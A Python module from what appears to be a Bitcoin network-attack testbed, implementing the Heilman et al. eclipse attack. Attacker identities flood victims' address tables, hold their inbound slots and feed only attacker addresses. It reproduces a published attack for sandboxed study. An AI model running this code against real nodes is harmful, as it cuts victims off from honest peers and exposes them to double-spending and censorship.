"""`kind: eclipse`, after Heilman, Kendler, Zohar and Goldberg (USENIX Security 2015), protocol.md §7.

Each identity of the attacker (one planned address; the attacker's budget is its identities,
spread by the planner over `netgroups` /16s):

(a) dials each victim and floods its new table through `addr`: its fellow identities' addresses
    and "trash" (addresses in `trash_network` that lead nowhere: the testbed's sandbox never dials
    them, protocol.md testbed adaptation 6), in messages of at most 1000 (more is misbehaviour);
(b) keeps the connection open (answering pings) so the victim's inbound slots stay full, and dials
    again `reconnect_after` after the victim evicts or drops it;
(c) listens on its own address, and a victim that dials it gets a normal handshake and, to
    `getaddr`, only attacker addresses; nothing else is ever relayed;
(d) the victim's restart is the scenario's: a `restart_node` timeline action (or waiting).

Against a node with inbound peers entering tried (the `legacy` profile), step (a)'s handshakes
alone fill tried with attacker addresses (each `version` names the identity's own address, which
0.9.3 required of an inbound peer it adds); today's Core keeps inbound peers out of addrman (#8594),
rate-limits addr (#22387), tests before evicting (#9037), and redials its anchors (#17428).
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import random
import time
from dataclasses import dataclass, field
from typing import Any

from ..config import parse_endpoint
from ..dictconfig import from_mapping
from ..wire.codec import NetAddr
from ..wire.messages import MAX_ADDR_TO_SEND, NODE_NETWORK, NODE_WITNESS, msg_addr
from .base import ATTACKS, AttackPeer, Attacker
from .config import AttackConfigError

SERVICES = NODE_NETWORK | NODE_WITNESS  # what a full node advertises: the victim prefers these


@dataclass
class EclipseParams:
    attacker_addresses: list[str] = field(default_factory=list)  # every identity's planned "ip:port" (the planner's)
    trash: int = 1000  # trash addresses each identity sends each victim per flood
    trash_network: str = "11.0.0.0/8"  # where trash is drawn from: routable, and outside the sandbox
    flood_every: float = 600.0  # scenario seconds between floods on a held connection (Core time)
    reconnect_after: float = 5.0  # scenario seconds before redialling a victim that dropped us (Core time)
    start: float = 0.0  # scenario seconds (Core time) before the first dial: let the victims find honest peers first
    ramp: float = 60.0  # first dials spread uniformly over this many scenario seconds, so each
    #                     handshake completes before the next arrival can evict it
    hold_inbound: bool = True  # (b): keep the connection open; False: handshake, flood, leave
    listen: bool = True  # (c): accept the victims' outbound connections on our own address

    @classmethod
    def from_dict(cls, data: dict[str, Any]) -> "EclipseParams":
        params = from_mapping(cls, data, "eclipse params", AttackConfigError)
        try:
            ipaddress.ip_network(params.trash_network, strict=False)
            for a in params.attacker_addresses:
                parse_endpoint(a)
        except ValueError as e:
            raise AttackConfigError(f"eclipse params: {e}") from None
        for name in ("trash", "flood_every", "reconnect_after", "start", "ramp"):
            if not isinstance(getattr(params, name), (int, float)) or getattr(params, name) < 0:
                raise AttackConfigError(f"eclipse params.{name} must be a number >= 0, got {getattr(params, name)!r}")
        return params


def _raise_if_cancelled() -> None:
    """asyncio.wait_for (3.11) may swallow a cancellation that races its inner future; an identity
    asked to stop must not go on dialling, so every loop checks after each wait."""
    task = asyncio.current_task()
    if task is not None and task.cancelling():
        raise asyncio.CancelledError


class ListenerPeer(AttackPeer):
    """A victim that dialled us: a normal handshake; `getaddr` gets attacker addresses only."""

    def on_getaddr(self, msg: Any) -> None:
        owner: EclipseAttacker = self.owner  # type: ignore[assignment]
        addrs = owner.attacker_addrs()[:MAX_ADDR_TO_SEND]
        self.send(msg_addr(addrs))
        owner.getaddr_answered += 1
        owner.metrics.addresses_sent(len(addrs))


@ATTACKS.register("eclipse", params=EclipseParams,
                  description="Heilman et al. 2015: flood new with attacker and trash addresses, hold the "
                              "victims' inbound slots, answer getaddr with attacker addresses only.")
class EclipseAttacker(Attacker):
    params: EclipseParams

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.rng = random.Random(self.name)  # trash depends on the identity only: a rerun sends the same
        self.addr_sent = 0
        self.floods = 0
        self.reconnects = 0
        self.getaddr_answered = 0
        self.accepted = 0
        self._server: asyncio.AbstractServer | None = None
        self._listened: set[ListenerPeer] = set()

    # --- what we advertise -------------------------------------------------------------------------
    def attacker_addrs(self) -> list[NetAddr]:
        now = int(time.time())
        own = self.params.attacker_addresses or [f"{self.spec.address}:{self.spec.port}"]
        return [NetAddr(ip, port, SERVICES, now - self.rng.randrange(0, 600)) for ip, port in map(parse_endpoint, own)]

    def trash_addrs(self, n: int) -> list[NetAddr]:
        net = ipaddress.ip_network(self.params.trash_network, strict=False)
        now = int(time.time())
        out = []
        for _ in range(n):
            ip = str(net.network_address + self.rng.randrange(1, max(2, net.num_addresses - 1)))
            out.append(NetAddr(ip, self.spec.port, SERVICES, now - self.rng.randrange(0, 3600)))
        return out

    def flood(self, peer: AttackPeer) -> None:
        """(a): attacker and trash addresses, shuffled, in addr messages of at most 1000."""
        addrs = self.attacker_addrs() + self.trash_addrs(self.params.trash)
        self.rng.shuffle(addrs)
        for i in range(0, len(addrs), MAX_ADDR_TO_SEND):
            peer.send(msg_addr(addrs[i:i + MAX_ADDR_TO_SEND]))
        self.addr_sent += len(addrs)
        self.metrics.addresses_sent(len(addrs))
        self.floods += 1

    # --- the attack --------------------------------------------------------------------------------
    async def run(self) -> None:
        if self.params.listen:
            self._server = await asyncio.start_server(self._accept, host=self.spec.source_ip, port=self.spec.port)
        try:
            await asyncio.gather(*(self._hold(t) for t in self.spec.targets))
            if self._server is not None:
                await asyncio.Event().wait()  # keep answering the victims' dials until stopped
        finally:
            if self._server is not None:
                self._server.close()
            await asyncio.gather(*(p.close("attacker stopping") for p in list(self._listened)),
                                 return_exceptions=True)

    async def _hold(self, target: str) -> None:
        """(a) and (b) against one victim, for as long as the attack runs. A first contact that
        fails (the victim evicted us mid-handshake for a newer arrival) is retried within the
        ramp; a held connection the victim drops is redialled after `reconnect_after`."""
        await asyncio.sleep(self.scaled(self.params.start + self.rng.uniform(0, self.params.ramp)))
        flooded = False
        while True:
            _raise_if_cancelled()
            try:
                # addr_from names us: 0.9.3 added an inbound peer only if it named the address it came from
                peer = await self.dial(target, services=SERVICES, addr_from=self.own_address(SERVICES))
            except (OSError, asyncio.TimeoutError, ConnectionError, TimeoutError):
                _raise_if_cancelled()
                await asyncio.sleep(self.scaled(self.rng.uniform(0, self.params.ramp) if not flooded
                                                else self.params.reconnect_after * self.rng.uniform(0.5, 1.5)))
                continue
            _raise_if_cancelled()
            self.flood(peer)
            flooded = True
            if not self.params.hold_inbound:
                await peer.close("flooded")
                return
            while not peer.closed:
                with contextlib.suppress(asyncio.TimeoutError, TimeoutError):
                    await peer.wait_closed(timeout=max(0.05, self.scaled(self.params.flood_every)))
                _raise_if_cancelled()
                if not peer.closed:
                    self.flood(peer)
            self.reconnects += 1
            await asyncio.sleep(self.scaled(self.params.reconnect_after * self.rng.uniform(0.5, 1.5)))

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        peer = ListenerPeer(self, services=SERVICES)
        self.accepted += 1
        await self.hold_inbound(peer, reader, writer, self._listened)

    def peer_closed(self, peer: AttackPeer) -> None:
        if isinstance(peer, ListenerPeer):
            self._listened.discard(peer)
            return
        super().peer_closed(peer)

    def detail(self) -> dict[str, Any]:
        return {"addr_sent": self.addr_sent, "floods": self.floods, "reconnects": self.reconnects,
                "victim_dials_accepted": self.accepted, "getaddr_answered": self.getaddr_answered,
                "victims_connected_to_us": sum(1 for p in self._listened if not p.closed)}
